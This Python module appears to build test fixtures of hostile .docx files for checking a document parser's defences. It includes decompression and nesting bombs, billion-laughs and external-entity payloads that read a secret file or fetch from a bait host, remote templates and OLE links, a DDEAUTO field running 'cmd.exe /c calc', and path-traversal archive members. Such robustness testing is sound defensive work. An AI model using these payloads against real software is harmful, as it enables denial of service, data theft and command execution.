"""Word files that are attacks: bombs, loops, depth, entities, and what lies elsewhere."""

from __future__ import annotations

from collections.abc import Iterator
from xml.sax.saxutils import quoteattr

from tests.build import word
from tests.build.attacks.attack import DOCX, Attack, Bait, Make, cut, dice, files, scratched
from tests.build.attacks.picture_files import png_claiming
from tests.build.word import Parts, Xml, docx, p, run, table, wrap

_LINE = p("Đoạn văn bình thường.")
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_W = word._NAMESPACES


def document(inside: str, *, top: str = "", root: str = "w:document") -> bytes:
    """A main part by hand; `top` stands before its root."""
    return (
        f'<?xml version="1.0"?>{top}<{root} {_W} xmlns:r="{_REL}"><w:body>{inside}</w:body></{root}>'.encode()
    )


def with_main(main: bytes) -> bytes:
    """A file with this main part."""
    return docx(parts=Parts(raw={"word/document.xml": main}))


def linked(kind: str, target: str, *, inside: str = "", outside: bool = True) -> bytes:
    """A file with one more relationship, `rX`, and markup that uses it."""
    mode = ' TargetMode="External"' if outside else ""
    link = f'<Relationship Id="rX" Type="{_REL}/{kind}" Target="{target}"{mode}/>'
    return docx(_LINE, Xml(inside), parts=Parts(links=link))


def _rid(tag: str) -> str:
    return f'<{tag} xmlns:r="{_REL}" r:id="rX"/>'


def _varied(markup: str, count: int) -> Xml:
    """An element so many times, each with other digits in it, so that it cannot be packed to next to nothing."""
    chance = dice(markup)
    return Xml("".join(markup.replace("#", f"{chance.getrandbits(28):07x}") for _ in range(count)))


def _deep(tag: str, levels: int, inside: str = "<w:p><w:r><w:t>sâu</w:t></w:r></w:p>") -> Xml:
    opening, closing = "", ""
    for part in tag.split():
        opening += f"<{part}>"
        closing = f"</{part}>" + closing
    return Xml(opening * levels + inside + closing * levels)


def _styles(count: int, *, loop: bool) -> str:
    last = count - 1
    return "".join(
        word.style(f"S{n}", f'<w:basedOn w:val="S{n + 1 if n < last else 0 if loop else last}"/>')
        for n in range(count)
    )


def _list_loop() -> bytes:
    numbering = (
        '<w:abstractNum w:abstractNumId="0"><w:numStyleLink w:val="L"/></w:abstractNum>'
        '<w:abstractNum w:abstractNumId="1"><w:numStyleLink w:val="M"/><w:styleLink w:val="L"/></w:abstractNum>'
        '<w:abstractNum w:abstractNumId="2"><w:numStyleLink w:val="L"/><w:styleLink w:val="M"/></w:abstractNum>'
        + word.num(1, 0) + word.num(2, 1) + word.num(3, 2)
    )  # fmt: skip
    styles = "".join(
        word.style(name, f'<w:pPr><w:numPr><w:numId w:val="{number}"/></w:numPr></w:pPr>', kind="numbering")
        for name, number in (("L", 2), ("M", 3))
    )
    return docx(p("a", number=(1, 0)), p("b", number=(3, 8)), parts=Parts(numbering=numbering, styles=styles))


def _list_bomb() -> bytes:
    wide = word.level(0, "upperRoman", "%1" * 50_000, start=10**9)
    high = "".join(word.level(place, "lowerLetter", f"%{place + 1}", start=10**18) for place in range(1, 9))
    far = word.level(10**9, "decimal", "%1")
    numbering = word.abstract(0, wide, high, far) + word.num(1, 0, word.start_override(0, 10**17))
    lines = [p("x", number=(1, level)) for level in (0, 8, 10**9, -1, 3)] * 50
    return docx(*lines, parts=Parts(numbering=numbering))


def _entities(top: str, use: str = "&x;") -> Make:
    def make(bait: Bait) -> bytes:
        said = top.replace("HTTP", bait.http).replace("FILE", bait.secret.as_uri())
        return with_main(document(f"<w:p><w:r><w:t>{use}</w:t></w:r></w:p>", top=said))

    return make


_LAUGHS = "<!DOCTYPE w [<!ENTITY a0 'ha'>" + "".join(
    f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12)
) + "]>"  # fmt: skip
_QUADRATIC = f"<!DOCTYPE w [<!ENTITY x '{'a' * 50_000}'>]>"


def _field(code: str) -> Make:
    def make(bait: Bait) -> bytes:
        said = code.replace("HTTP", bait.http).replace("FILE", str(bait.secret))
        simple = Xml(f"<w:p><w:fldSimple w:instr={quoteattr(said)}/></w:p>")
        return docx(_LINE, p(word.field_run(said)), simple)

    return make


def _links(count: int) -> bytes:
    links = "".join(
        f'<Relationship Id="q{n}" Type="{_REL}/header" Target="document.xml"/>' for n in range(count)
    )
    return docx(_LINE, parts=Parts(links=links))


def _media(count: int, content: bytes) -> bytes:
    links = "".join(
        f'<Relationship Id="m{n}" Type="{_REL}/image" Target="media/{n}.png"/>' for n in range(count)
    )
    types = {f"word/media/{n}.png": content + bytes([n % 256, n >> 8]) for n in range(count)}
    return docx(_LINE, parts=Parts(links=links, raw=types))


def _twice(_: Bait) -> bytes:
    """Two main parts of one name, as the directory of the archive allows."""
    good = docx(
        _LINE, parts=Parts(raw={"word/documenu.xml": document("<w:p><w:r><w:t>khác</w:t></w:r></w:p>")})
    )
    return good.replace(b"word/documenu.xml", b"word/document.xml")


def _frames(bait: Bait) -> bytes:
    return linked("frame", f"{bait.http}/frame")


_ATTRIBUTES = " ".join(f'w:a{n}="x"' for n in range(100_000))
_ROWS = 3_000
_MERGED = [
    [word.cell("a", '<w:vMerge w:val="restart"/>' if not n else "<w:vMerge/>"), "b"] for n in range(_ROWS)
]
_BEFORE = '<w:gridBefore w:val="1000000000"/>'
_SPAN = word.cell("rộng", '<w:gridSpan w:val="1000000000"/>')
_WIDE = '<w:tc><w:tcPr><w:gridSpan w:val="63"/></w:tcPr><w:p><w:r><w:t>#</w:t></w:r></w:p></w:tc>'
_MANY = "<w:p><w:r><w:t>a</w:t></w:r></w:p>"

_BOMBS: dict[str, Make | bytes] = {
    "docx: a cell over 10 to the 9 columns": lambda _: docx(table([_SPAN, "b"], ["c", _SPAN])),
    "docx: 10 to the 9 cells before a row": lambda _: docx(table(word.row("a", properties=_BEFORE))),
    "docx: 3 000 merged rows": lambda _: docx(table(*_MERGED)),
    "docx: 200 000 paragraphs": lambda _: docx(Xml(_MANY * 200_000)),
    "docx: 200 001 paragraphs of varied text": lambda _: docx(
        Xml("".join(f"<w:p><w:r><w:t>{n}</w:t></w:r></w:p>" for n in range(200_001)))
    ),
    "docx: a million breaks": lambda _: docx(p(Xml(f"<w:r>{'<w:br/>' * 1_000_000}</w:r>"))),
    "docx: 300 000 varied breaks": lambda _: docx(p(wrap("w:r", _varied('<w:br w:x="#"/>', 300_000)))),
    "docx: 100 000 varied pages": lambda _: docx(p(_varied('<w:r w:x="#"><w:br w:type="page"/></w:r>', 100_000))),
    "docx: 150 000 varied runs": lambda _: docx(p(_varied("<w:r><w:rPr><w:b/></w:rPr><w:t>#</w:t></w:r>", 150_000))),
    "docx: one text of 25 MB": lambda _: docx(p("a" * 25_000_000)),
    "docx: one varied text of 8 MB": lambda _: docx(p(str(_varied("#", 1_100_000)))),
    "docx: a table of 60 000 varied cells": lambda _: docx(
        Xml(f"<w:tbl>{_varied('<w:tr><w:tc><w:p><w:r><w:t>#</w:t></w:r></w:p></w:tc></w:tr>', 60_000)}</w:tbl>")
    ),
    "docx: a row of 20 000 wide cells": lambda _: docx(
        Xml(f"<w:tbl><w:tr>{_varied(_WIDE, 20_000)}</w:tr><w:tr>{_varied(_WIDE, 20_000)}</w:tr></w:tbl>")
    ),
    "docx: 28 MB of blanks in the markup": lambda _: docx(Xml(" " * 28_000_000), _LINE),
    "docx: 40 MB of elements in 50 kB": lambda _: docx(Xml("<w:p/>" * 6_000_000)),
    "docx: an attribute of 10 MB": lambda _: docx(Xml(f'<w:p w:x="{"a" * 10_000_000}"/>'), _LINE),
    "docx: 100 000 attributes": lambda _: docx(Xml(f"<w:p {_ATTRIBUTES}/>"), _LINE),
    "docx: 100 000 styles in a loop": lambda _: docx(p("a", style="S5"), parts=Parts(styles=_styles(100_000, loop=True))),
    "docx: a chain of 20 000 styles": lambda _: docx(p("a", style="S0"), parts=Parts(styles=_styles(20_000, loop=False))),
    "docx: a style based on itself": lambda _: docx(p("a", style="S0"), parts=Parts(styles=_styles(1, loop=True))),
    "docx: lists that point at each other": lambda _: _list_loop(),
    "docx: a list of enormous numbers": lambda _: _list_bomb(),
    "docx: tables nested 200 deep": lambda _: docx(_deep("w:tbl w:tr w:tc", 200)),
    "docx: tables nested 3 000 deep": lambda _: docx(_deep("w:tbl w:tr w:tc", 3_000)),
    "docx: controls nested 240 deep": lambda _: docx(_deep("w:sdt w:sdtContent", 120)),
    "docx: controls nested 10 000 deep": lambda _: docx(_deep("w:sdt w:sdtContent", 10_000)),
    "docx: insertions nested 100 000 deep": lambda _: docx(_deep("w:ins", 100_000)),
    "docx: alternatives nested 200 deep": lambda _: docx(_deep("mc:AlternateContent mc:Choice", 100)),
    "docx: text boxes nested 30 deep": lambda _: docx(_deep("w:p w:r w:pict v:shape v:textbox w:txbxContent", 30)),
    "docx: 100 000 fields that never end": lambda _: docx(
        p(Xml('<w:r><w:fldChar w:fldCharType="begin"/></w:r>' * 100_000), "sau")
    ),
    "docx: 50 000 varied fields that never end": lambda _: docx(
        p(_varied('<w:r w:x="#"><w:fldChar w:fldCharType="begin"/></w:r>', 50_000), "sau")
    ),
    "docx: 50 000 varied notes": lambda _: docx(
        _LINE,
        parts=Parts(related={"footnotes": ("footnotes.xml", word.story("w:footnotes", _varied(
            "<w:footnote><w:p><w:r><w:t>#</w:t></w:r></w:p></w:footnote>", 50_000)))}),
    ),
    "docx: 50 000 notes": lambda _: docx(
        _LINE, parts=Parts(related={"footnotes": ("footnotes.xml", word.story("w:footnotes", Xml(_MANY * 50_000)))})
    ),
    "docx: sizes without end": lambda _: docx(
        p(run("a", '<w:sz w:val="9e999"/>'), properties='<w:ind w:left="-99999999999999999999"/>'),
        Xml('<w:sectPr><w:pgSz w:w="nan" w:h="inf"/></w:sectPr>'),
    ),
    "docx: 5 000 headers that are the document": lambda _: _links(5_000),
    "docx: 4 000 pictures": lambda _: _media(4_000, b"\x89PNG\r\n\x1a\n"),
    "docx: a picture of 50 000 x 50 000": lambda _: _media(1, png_claiming(50_000, 50_000)),
    "docx: 6 000 members": lambda _: docx(_LINE, parts=Parts(raw={f"word/x{n}.bin": b"" for n in range(6_000)})),
    "docx: a part of 40 MB of zeros": lambda _: docx(_LINE, parts=Parts(raw={"word/media/a.bin": bytes(40_000_000)})),
}  # fmt: skip

_ELSEWHERE: dict[str, Make | bytes] = {
    "docx: billion laughs": _entities(_LAUGHS, "&a11;"),
    "docx: quadratic entities": _entities(_QUADRATIC, "&x;" * 5_000),
    "docx: an entity from a file": _entities('<!DOCTYPE w [<!ENTITY x SYSTEM "FILE">]>'),
    "docx: an entity from the net": _entities('<!DOCTYPE w [<!ENTITY x SYSTEM "HTTP/x">]>'),
    "docx: a document type from the net": _entities('<!DOCTYPE w SYSTEM "HTTP/dtd">', "a"),
    "docx: parameter entities": _entities('<!DOCTYPE w [<!ENTITY % p SYSTEM "HTTP/p"> %p;]>', "a"),
    "docx: a style sheet from the net": _entities('<?xml-stylesheet type="text/xsl" href="HTTP/xsl"?>', "a"),
    "docx: an inclusion from a file": lambda bait: docx(
        _LINE, Xml(f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{bait.secret.as_uri()}" parse="text"/>')
    ),
    "docx: a schema from the net": lambda bait: docx(
        Xml(f'<w:p xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:schemaLocation="a {bait.http}/s"/>'), _LINE
    ),
    "docx: a template from the net": lambda bait: docx(
        _LINE,
        parts=Parts(
            related={"settings": ("settings.xml", f"<w:settings {_W}>{_rid('w:attachedTemplate')}</w:settings>")},
            raw={"word/_rels/settings.xml.rels": (
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                f'<Relationship Id="rX" Type="{_REL}/attachedTemplate" Target="{bait.http}/t.dotm" TargetMode="External"/>'
                "</Relationships>").encode()},
        ),
    ),
    "docx: a picture from the net": lambda bait: linked(
        "image", f"{bait.http}/i.png",
        inside='<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
        f'xmlns:r="{_REL}" r:link="rX"/></w:drawing></w:r></w:p>',
    ),
    "docx: a chunk from the net": lambda bait: linked("aFChunk", f"{bait.http}/c.html", inside=_rid("w:altChunk")),
    "docx: a chunk from a file": lambda bait: linked("aFChunk", bait.secret.as_uri(), inside=_rid("w:altChunk")),
    "docx: a chunk that fetches": lambda bait: docx(
        _LINE, Xml(_rid("w:altChunk")),
        parts=Parts(
            links=f'<Relationship Id="rX" Type="{_REL}/aFChunk" Target="c.html"/>',
            raw={"word/c.html": f'<img src="{bait.http}/chunk">'.encode()},
        ),
    ),
    "docx: a document inside from the net": lambda bait: linked("subDocument", f"{bait.http}/s", inside=_rid("w:subDoc")),
    "docx: an object from the net": lambda bait: linked(
        "oleObject", f"{bait.http}/o",
        inside='<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" '
        f'xmlns:r="{_REL}" r:id="rX" UpdateMode="Always"/></w:object></w:r></w:p>',
    ),
    "docx: a frame from the net": _frames,
    "docx: a header from a file": lambda bait: linked("header", bait.secret.as_uri(), outside=False),
    "docx: a header that climbs": lambda bait: linked(
        "header", "../" * 20 + str(bait.secret).lstrip("/"), outside=False
    ),
    "docx: field INCLUDEPICTURE": _field('INCLUDEPICTURE "HTTP/f.png" \\d'),
    "docx: field INCLUDETEXT": _field('INCLUDETEXT "FILE"'),
    "docx: field DDEAUTO": _field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc"'),
}  # fmt: skip

_ODD: dict[str, Make | bytes] = {
    "docx: no main part": lambda _: docx(parts=Parts(raw={"word/document.xml": b""})),
    "docx: a main part of another tongue": lambda _: with_main(b"<html><body>a</body></html>"),
    "docx: charset punycode": lambda _: with_main(document("").replace(b"?>", b' encoding="punycode"?>', 1)),
    "docx: charset UTF-7": lambda _: with_main(document("+ADw-").replace(b"?>", b' encoding="utf-7"?>', 1)),
    "docx: in UTF-16": lambda _: with_main(document(_MANY).decode().encode("utf-16")),
    "docx: control characters": lambda _: with_main(document("<w:p><w:r><w:t>\x01\x08&#1;</w:t></w:r></w:p>")),
    "docx: two main parts of one name": _twice,
    "docx: members that climb": lambda _: docx(_LINE, parts=Parts(raw={"../../../evil.xml": b"x", "/evil": b"y"})),
    "docx: types without end": lambda _: docx(_LINE, parts=Parts(raw={"[Content_Types].xml": b"<Types>" + b"<a>" * 90_000})),
    "docx: relations of garbage": lambda _: docx(_LINE, parts=Parts(raw={"word/_rels/document.xml.rels": b"\0\xff" * 999})),
    "docx: styles of garbage": lambda _: docx(
        _LINE, parts=Parts(related={"styles": ("styles.xml", "<w:styles")})
    ),
    "docx: macros": lambda _: docx(_LINE, parts=Parts(main_type=word.DOCM_TYPE, raw={"word/vbaProject.bin": b"\xd0\xcf"})),
}  # fmt: skip


def report() -> bytes:
    """A report to cut and to scratch."""
    return docx(*(p(f"Đoạn {n} của báo cáo sơ kết.") for n in range(400)), parts=Parts(styles=word.HEADINGS))


def _damaged() -> dict[str, Make | bytes]:
    made: dict[str, Make | bytes] = {}
    for number in range(6):
        name = f"docx: cut at random, {number}"
        made[name] = lambda _, name=name: cut(name, report())  # type: ignore[misc]  # a default holds the loop's value
    for number in range(6):
        name = f"docx: scratched at random, {number}"
        made[name] = lambda _, name=name: scratched(name, report())  # type: ignore[misc]  # a default holds the loop's value
    made["docx: noise behind a zip's mark"] = b"PK\x03\x04" + dice("noise").randbytes(20_000)
    return made


def attacks() -> Iterator[Attack]:
    """All of them."""
    yield from files(_BOMBS | _ELSEWHERE | _ODD | _damaged(), file="bao cao.docx", declared=DOCX)
